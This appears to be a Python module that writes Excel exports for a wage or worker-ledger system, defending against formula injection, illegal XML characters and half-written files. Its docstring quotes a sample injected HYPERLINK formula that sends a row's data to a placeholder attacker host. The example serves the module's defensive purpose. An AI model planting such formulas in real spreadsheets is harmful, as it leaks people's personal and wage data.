"""Writing Excel exports. Every openpyxl export appends its rows with `append_row` and saves with `save`:

- text is stored as text. openpyxl turns any string starting with "=" into a live formula, so an employer named
  `=HYPERLINK("http://evil.example/?"&C2,"点击")` in a county's upload would become a working link, carrying the
  row's data, in the prefecture's export;
- money is a number shown to the fen (`money_cell`), so a column of wages can be summed;
- a file on disk is written whole or not at all (a temporary file beside it, renamed at the end)."""

from __future__ import annotations

import os
import re
import secrets
from collections.abc import Iterable
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.workbook import Workbook

from engine.validation import DataInvalid

# What spreadsheet programs read as the start of a formula when someone edits the cell.
_FORMULA_START = ("=", "+", "-", "@")
# Characters XML does not allow: openpyxl's control characters, and the two non-characters it lets through and
# the XML writer then refuses (a name pasted with U+FFFE failed the whole export).
_NOT_IN_XML = re.compile(ILLEGAL_CHARACTERS_RE.pattern + "|[\ufffe\uffff]")
MONEY_FORMAT = "#,##0.00"  # as the dashboard's export (web/dashboard.py)


def text_cell(sheet: Any, value: str) -> Any:
    """A cell holding `value` as text, in write-only and normal worksheets alike."""
    # Control characters are not allowed in the file's XML: openpyxl would refuse the whole export.
    cell = WriteOnlyCell(sheet, value=_NOT_IN_XML.sub("", value))
    cell.data_type = "s"
    if value.startswith(_FORMULA_START):
        cell.quotePrefix = True  # Excel keeps it text even after the cell is edited
    return cell


def money_cell(sheet: Any, value: Decimal) -> Any:
    """A cell holding an amount in yuan as a number, shown with two decimals: text such as '4800.00' reads the
    same but Excel cannot sum it."""
    cell = WriteOnlyCell(sheet, value=value)
    cell.number_format = MONEY_FORMAT
    return cell


def _needs_text_cell(value: str) -> bool:
    """Whether openpyxl, given `value` as it is, would store anything but that text: a formula, an error value, or
    a refusal for control characters. It stores any other string exactly as `text_cell` would, and a cell object
    per string was a fifth of a 30,000-worker ledger export's time."""
    return value.startswith(_FORMULA_START) or value in ERROR_CODES or _NOT_IN_XML.search(value) is not None


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with every string stored as text (numbers, dates and None as they are)."""
    sheet.append([text_cell(sheet, v) if isinstance(v, str) and _needs_text_cell(v) else v for v in values])


def save(workbook: Workbook, target: str | os.PathLike[str] | IO[bytes]) -> None:
    """Save to a stream, or to a path through a temporary file in the same directory renamed over it at the end: a
    failed export leaves no half-written file and an existing file as it was. DataInvalid names a directory that
    is missing or not writable."""
    if not isinstance(target, (str, os.PathLike)):
        workbook.save(target)
        return
    path = Path(target)
    temporary = path.with_name(f".{path.name}.{secrets.token_hex(4)}.part")
    try:
        with open(temporary, "xb") as stream:
            workbook.save(stream)
        os.replace(temporary, path)
    except BaseException as exc:
        temporary.unlink(missing_ok=True)
        if isinstance(exc, OSError):
            raise DataInvalid({"path": f"无法写入 {path}：{exc.strerror or exc}"}, "导出文件无法写入") from exc
        raise
